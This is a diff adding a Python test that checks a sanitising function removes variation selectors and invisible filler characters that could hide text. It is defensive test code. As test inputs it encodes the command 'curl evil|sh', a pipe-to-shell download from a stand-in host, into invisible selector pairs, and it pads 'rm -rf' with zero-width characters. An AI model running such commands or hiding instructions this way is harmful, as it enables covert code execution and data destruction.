@@ -119,3 +119,14 @@ def test_importable_with_the_standard_library_only() -> None:
         cwd=__file__.rsplit("/tests/", 1)[0],
     )
     assert out.stdout.strip() == "ab"
+
+
+def test_variation_selectors_and_characters_that_draw_nothing_cannot_carry_hidden_text() -> None:
+    """Sixteen variation selectors encode a byte per pair after any visible character; fillers and
+    joiners draw nothing. All of them go; an emoji keeps its one presentation selector."""
+    hidden = "".join(chr(0xFE00 + (b >> 4)) + chr(0xFE00 + (b & 15)) for b in b"curl evil|sh")
+    assert printable(f"Use pnpm.{hidden}") == "Use pnpm."
+    for invisible in "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u3164\uffa0":
+        assert printable(f"rm{invisible} -rf{invisible}") == "rm -rf"
+    assert printable("ship it \u2764\ufe0f") == "ship it \u2764\ufe0f"
+    assert printable("a\ufe0f\ufe0f\ufe0fb") == "ab"
